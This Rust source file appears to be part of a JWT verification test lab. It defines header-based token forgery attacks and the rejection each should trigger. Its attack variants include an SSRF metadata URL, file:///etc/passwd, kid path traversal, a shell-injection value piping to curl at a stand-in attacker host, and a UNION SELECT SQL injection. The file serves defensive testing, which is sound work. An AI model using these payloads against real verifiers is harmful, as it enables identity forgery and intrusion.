//! Attacks by the header: it holds a key, says where to fetch one, or sets rules of its own.

use super::{AttackKind, Definition, JudgedBy, attack_text};
use crate::code::Code;
use crate::lab::forge::{Members, quoted};
use crate::lab::naive;
use crate::profiles::demo::DemoAlgorithm;

pub(super) static ATTACKS: &[Definition] = &[
    Definition {
        text: attack_text!("inline-key"),
        number: 11,
        key: "ik",
        expected: Code::HeaderNotAllowed,
        forges_identity: true,
        needs: None,
        variants: &[],
        kind: AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, _| {
                let header = forge.original.header.with("jwk", forge.attacker_jwk());
                forge.by_attacker(&header, "Made with the key in the header.")
            },
            naive: &naive::TRUSTS_JWK,
        },
    },
    Definition {
        text: attack_text!("spoofed-key-set"),
        number: 12,
        key: "sk",
        expected: Code::HeaderNotAllowed,
        forges_identity: true,
        needs: None,
        variants: &[
            "https://keys.attacker.example/jwks.json",
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd",
        ],
        kind: AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, address| {
                let header = forge.original.header.with("jku", quoted(address));
                forge.by_attacker(&header, "Made with Mallory's key, which would be at the address.")
            },
            naive: &naive::FOLLOWS_JKU,
        },
    },
    Definition {
        text: attack_text!("kid-empty-file"),
        number: 13,
        key: "ke",
        expected: Code::UnknownKid,
        forges_identity: true,
        needs: Some(DemoAlgorithm::HS256),
        variants: PATHS,
        kind: EMPTY_FILE,
    },
    Definition {
        text: attack_text!("kid-empty-file-rs256"),
        number: 13,
        key: "ke",
        expected: Code::AlgNotAllowed,
        forges_identity: true,
        needs: Some(DemoAlgorithm::RS256),
        variants: PATHS,
        kind: EMPTY_FILE,
    },
    Definition {
        text: attack_text!("kid-command"),
        number: 14,
        key: "ki",
        expected: Code::UnknownKid,
        forges_identity: true,
        needs: None,
        variants: &["| sleep 10", "| curl https://listener.attacker.example/"],
        kind: AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, command| {
                let header = forge.original.header.with("kid", quoted(command));
                Ok(if forge.is_mac() {
                    forge.sign_with_hmac(&header, b"", "Made with the empty key: the command prints nothing.")
                } else {
                    forge.stale(header.to_string(), forge.forged_claims().to_string())
                })
            },
            naive: &naive::RUNS_KID_AS_COMMAND,
        },
    },
    Definition {
        text: attack_text!("kid-sql"),
        number: 15,
        key: "ks",
        expected: Code::UnknownKid,
        forges_identity: true,
        needs: Some(DemoAlgorithm::HS256),
        variants: &[],
        kind: SQL,
    },
    Definition {
        text: attack_text!("kid-sql-rs256"),
        number: 15,
        key: "ks",
        expected: Code::AlgNotAllowed,
        forges_identity: true,
        needs: Some(DemoAlgorithm::RS256),
        variants: &[],
        kind: SQL,
    },
    Definition {
        text: attack_text!("outside-header"),
        number: 16,
        key: "oa",
        expected: Code::HeaderNotAllowed,
        forges_identity: false,
        needs: None,
        variants: &["jku", "x5u", "x5c", "jwk", "crit", "zip"],
        kind: AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, member| Ok(forge.stale_header(member, quoted(super::claims::LISTENER))),
            naive: &naive::CALLS_ADDRESSES,
        },
    },
    Definition {
        text: attack_text!("outside-kid"),
        number: 16,
        key: "oa",
        expected: Code::UnknownKid,
        forges_identity: false,
        needs: None,
        variants: &[],
        kind: AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, _| Ok(forge.stale_header("kid", quoted(super::claims::LISTENER))),
            naive: &naive::CALLS_ADDRESSES,
        },
    },
    Definition {
        text: attack_text!("crit"),
        number: 31,
        key: "cr",
        expected: Code::HeaderNotAllowed,
        forges_identity: false,
        needs: None,
        variants: &["unknown", "exp"],
        kind: AttackKind::Token {
            judged_by: JudgedBy::Lab,
            forge: |forge, listed| {
                let header = forge.lab_header();
                let header = match listed {
                    "exp" => header.with("crit", r#"["exp"]"#).with("exp", forge.seconds(60)),
                    _ => header.with("crit", r#"["x"]"#).with("x", "true"),
                };
                forge.resigned(header.to_string(), forge.original.claims.to_string())
            },
            naive: &naive::IGNORES_CRIT,
        },
    },
    Definition {
        text: attack_text!("another-typ"),
        number: 32,
        key: "at",
        expected: Code::WrongType,
        forges_identity: false,
        needs: None,
        variants: TYPES,
        kind: AttackKind::Token {
            judged_by: JudgedBy::Lab,
            forge: |forge, typ| forge.resign_header("typ", quoted(typ)),
            naive: &naive::IGNORES_TYP,
        },
    },
    Definition {
        text: attack_text!("another-typ-stale"),
        number: 32,
        key: "at",
        expected: Code::BadSignature,
        forges_identity: false,
        needs: None,
        variants: TYPES,
        kind: AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, typ| Ok(forge.stale_header("typ", quoted(typ))),
            naive: &naive::SKIPS_SIGNATURE,
        },
    },
    Definition {
        text: attack_text!("typ-at-api"),
        number: 32,
        key: "at",
        expected: Code::WrongType,
        forges_identity: false,
        needs: None,
        variants: &["absent", "JWT"],
        kind: AttackKind::Token {
            judged_by: JudgedBy::LabApi,
            forge: |forge, typ| {
                let header = match typ {
                    "JWT" => forge.lab_header().with("typ", quoted("JWT")),
                    _ => forge.lab_header().without("typ"),
                };
                forge.resigned(header.to_string(), super::claims::api_claims(forge).to_string())
            },
            naive: &naive::IGNORES_TYP,
        },
    },
    Definition {
        text: attack_text!("certificate-in-header"),
        number: 34,
        key: "ce",
        expected: Code::HeaderNotAllowed,
        forges_identity: true,
        needs: None,
        variants: &["x5c", "x5u"],
        kind: AttackKind::Token {
            judged_by: JudgedBy::Demo,
            forge: |forge, member| {
                let value = match member {
                    "x5u" => quoted("https://keys.attacker.example/certificate.pem"),
                    _ => format!("[{}]", quoted(&forge.attacker_certificate()?)),
                };
                let header = forge.original.header.with("alg", quoted("RS256")).with(member, value);
                forge.by_rsa_attacker(&header, "Made with the key of the certificate.")
            },
            naive: &naive::TRUSTS_CERTIFICATES,
        },
    },
];

const TYPES: &[&str] = &["at+jwt", "logout+jwt"];

const PATHS: &[&str] = &["../../../../dev/null", "/dev/null", "/invalid_path", "no-name"];

const EMPTY_FILE: AttackKind = AttackKind::Token {
    judged_by: JudgedBy::Demo,
    forge: |forge, path| {
        let path = if path == "no-name" { "" } else { path };
        let header: Members = forge.original.header.with("kid", quoted(path));
        Ok(forge.sign_with_hmac(&header, b"", "Made with the empty key: the file is empty."))
    },
    naive: &naive::READS_KID_AS_PATH,
};

const SQL: AttackKind = AttackKind::Token {
    judged_by: JudgedBy::Demo,
    forge: |forge, _| {
        let header = forge.original.header.with("kid", quoted("x' UNION SELECT 'known-key' -- "));
        Ok(forge.sign_with_hmac(&header, b"known-key", "Made with the key that the query selects."))
    },
    naive: &naive::PASTES_KID_INTO_SQL,
};
